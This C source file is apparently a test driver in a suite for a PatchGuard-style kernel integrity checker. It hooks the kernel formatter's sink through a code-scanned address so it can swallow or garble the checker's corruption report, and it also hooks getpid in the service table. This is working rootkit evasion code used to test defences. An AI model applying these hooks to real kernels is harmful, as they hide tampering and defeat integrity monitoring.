/* attack_a66_report_hook (A66): swallow PatchGuard's report in the
 * kernel's formatter. It hooks past every entry PatchGuard looked at. The
 * report used to be formatted by the kernel's snprintf, and was skipped
 * only when the entry of snprintf, vsnprintf or another routine it named
 * was hooked. This driver leaves those entries alone: it takes from
 * snprintf's code the address of the sink it hands the formatter (a `mov
 * $imm32, %rdi`, past the entry bytes), and replaces that sink with its
 * own copy, which stores characters exactly as the kernel's does, so
 * every printk and snprintf keeps working. When the text being formatted
 * starts with PatchGuard's report, the copy spins for ever with
 * interrupts masked (the NMI that found the corruption never returns, and
 * no stop screen comes); with `garble`, it names another region type
 * instead. Then it hooks getpid in the service table as attack_a1.
 * Expected: 0x109 type 0xA (or 0x1, the sink's hook) with the true report
 * and the stop screen on the serial line. */
#include "attack_pg.h"

struct a_buf {
	char *p;
	size_t size, len;
};

static const char report_head[] = "\n*** PatchGuard: ";
static const char fake[] = "unknown region (region type 0x0) at nowhere\n";
static bool garble;

static uint64_t hooked_getpid(uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4, uint64_t a5, uint64_t a6)
{
	return 4242;
}

static bool is_report(const struct a_buf *b, size_t upto)
{
	if (upto > b->size || upto > sizeof report_head - 1)
		return false;
	for (size_t i = 0; i < upto; i++)
		if (b->p[i] != report_head[i])
			return false;
	return true;
}

/* The kernel's sink, as it is in kernel/lib/format.c, and the hook. */
static void hooked_sink(struct a_buf *b, char c)
{
	size_t head = sizeof report_head - 1;
	if (b->len >= head && b->len < head + sizeof fake - 1 && is_report(b, head)) {
		if (!garble)
			for (;;)
				__asm__ volatile("cli; hlt");
		c = fake[b->len - head];
	}
	if (b->len + 1 < b->size)
		b->p[b->len] = c;
	b->len++;
}

/* The immediate of the first `mov $imm32, %rdi` (48 C7 C7) in fn. */
static uint64_t first_rdi_imm(const uint8_t *fn)
{
	for (int i = 0; i < 96; i++)
		if (fn[i] == 0x48 && fn[i + 1] == 0xC7 && fn[i + 2] == 0xC7) {
			int32_t imm;
			memcpy(&imm, fn + i + 3, 4);
			return (uint64_t)(int64_t)imm;
		}
	return 0;
}

status_t driver_entry(struct driver_object *drv)
{
	garble = !strcmp(drv->args, "garble");
	uint64_t sink = first_rdi_imm((const uint8_t *)&snprintf);
	uint64_t base = a_kernel_base();
	uint64_t *table = a_find_service_table();
	if (!sink || sink < base || sink >= a_kernel_end(base) || !table) {
		printk("attack_a66: formatter's sink or service table not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	/* movabs $hooked_sink, %rax; jmp *%rax */
	uint8_t jump[12] = {0x48, 0xB8, 0, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0xE0};
	uint64_t target = (uint64_t)&hooked_sink, hook = (uint64_t)&hooked_getpid;
	memcpy(jump + 2, &target, 8);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	printk("attack_a66: formatter's sink hooked past its entries (%s), getpid hooked\n",
	       garble ? "the report garbled" : "the report swallowed");
	a_patched("attack_a66");
	a_write_protected((void *)sink, jump, sizeof jump);
	a_write_protected(&table[KPP_SYS_GET_PID], &hook, sizeof hook);
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
